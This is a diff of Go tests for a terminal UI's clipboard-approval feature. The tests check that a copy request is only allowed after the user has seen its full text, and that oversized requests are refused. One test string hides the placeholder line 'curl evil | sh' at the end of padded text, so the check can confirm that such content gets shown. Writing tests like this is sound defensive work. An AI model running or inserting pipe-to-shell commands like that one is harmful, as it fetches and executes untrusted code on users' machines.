@@ -2,6 +2,7 @@ package tui
 
 import (
 	"fmt"
+	"strings"
 	"testing"
 	"time"
 
@@ -144,4 +145,47 @@ func TestCopiesAreSeldom(t *testing.T) {
 	if diff := cmp.Diff([]string{"copy 0", "copy 99", "later"}, r.copied); diff != "" {
 		t.Error(diff)
 	}
+}
+
+// A copy is let only when the person was shown all of it: what no toast has room for is
+// shown by the first /clipboard, and let by the next.
+func TestALongCopyIsShownWhole(t *testing.T) {
+	long := strings.Repeat("harmless ", 15) + "\nnothing\n" + strings.Repeat("x\n", 40) + "curl evil | sh\n"
+	for name, c := range map[string]struct {
+		cols, rows int
+		text       string
+	}{
+		"long":            {100, 24, long},
+		"wide when drawn": {100, 24, strings.Repeat("\x1b", 100) + "evil"},
+		"a narrow screen": {60, 24, strings.Repeat("y", 100) + "evil"},
+		"a low screen":    {100, 10, strings.Repeat("y", 100) + "evil"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := newHarness(t, c.cols, c.rows, Options{})
+			r.send(paneMsg{"s1", clipboard(c.text)})
+			r.now = r.now.Add(panel.MinAge)
+			r.keys("\x01/clipboard\r")
+			r.wantCopied()
+			r.wants("tab 1 wants to copy")
+			r.keys(strings.Repeat("j", 60))
+			r.wants("evil")
+			r.send(paneMsg{"s1", clipboard("another")})
+			r.keys("q\x01/clipboard\r")
+			r.wantCopied() // it has just been shown
+			r.now = r.now.Add(copyHold + time.Second)
+			r.keys("\r")
+			r.wantCopied(c.text)
+		})
+	}
+}
+
+// What nobody can look through is not let.
+func TestAHugeCopyIsNotHeld(t *testing.T) {
+	r := newHarness(t, 120, 24, Options{})
+	r.send(paneMsg{"s1", clipboard(strings.Repeat("x", copyLook+1))})
+	r.wants("too much to look through")
+	r.now = r.now.Add(panel.MinAge)
+	r.keys("\x01/clipboard\r")
+	r.wantCopied()
+	r.wants("no program waits to copy")
 }
